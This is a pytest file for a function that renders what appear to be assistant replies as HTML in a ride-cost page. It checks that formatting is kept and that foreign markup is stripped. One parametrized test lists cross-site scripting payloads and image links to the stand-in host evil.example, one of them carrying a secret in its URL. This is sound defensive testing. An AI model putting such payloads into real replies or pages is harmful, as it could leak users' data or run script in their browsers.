"""A reply can look, not act."""

import pytest

from nimrod.web.pages.ride.richtext import as_html


def test_bold_lists_and_paragraphs_are_kept() -> None:
    html = as_html("For 40 minutes:\n- **Bike** €6.50\n2. Car €16.00\n\nThe bike is cheapest.")
    items = "<li><strong>Bike</strong> €6.50</li><li>Car €16.00</li>"
    assert html == f"<p>For 40 minutes:</p><ul>{items}</ul><p>The bike is cheapest.</p>"


@pytest.mark.parametrize(
    "reply",
    [
        "<img src=https://evil.example/x?secret>",
        "![x](https://evil.example/a.png)",
        "<script>alert(1)</script>",
        "[tap me](javascript:alert(1))",
        "**<b onmouseover=alert(1)>bold</b>**",
        "- <iframe src=//evil.example>",
    ],
)
def test_markup_of_others_becomes_plain_text(reply: str) -> None:
    html = as_html(reply)
    for tag in ("<img", "<script", "<a", "<b ", "<iframe"):
        assert tag not in html


def test_stars_that_mark_nothing_stay() -> None:
    assert as_html("2 ** 3 and **") == "<p>2 ** 3 and **</p>"


def test_an_empty_reply_is_nothing() -> None:
    assert as_html(" \n ") == ""
